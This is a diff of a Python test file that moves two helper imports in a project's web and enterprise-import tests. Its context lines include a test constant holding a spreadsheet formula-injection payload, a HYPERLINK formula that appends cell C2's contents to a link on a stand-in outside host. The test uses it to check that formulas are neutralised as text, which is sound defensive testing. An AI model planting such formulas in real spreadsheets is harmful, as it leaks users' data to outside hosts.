@@ -28,7 +28,7 @@ from openpyxl import load_workbook
 
 from anjian.core import jobs
 from anjian.core.models import BackgroundJob, JobStatus
-from anjian.web.tests.test_url_access import iter_routes
+from anjian.web.tests.route_walk import iter_routes
 from testsupport import world
 
 FORMULA = '=HYPERLINK("http://x.example/?"&C2,"张三")'
@@ -280,7 +280,7 @@ def test_the_import_error_report_writes_the_uploaded_formulas_as_text(
 ):
     from anjian.enterprises.importer import MODE_VALID
     from anjian.enterprises.ledger import COLUMNS
-    from anjian.enterprises.tests.test_importer import HEADERS, row
+    from anjian.enterprises.tests.import_support import HEADERS, row
     from testsupport.hostile_xlsx import text_workbook
 
     settings.MEDIA_ROOT = tmp_path
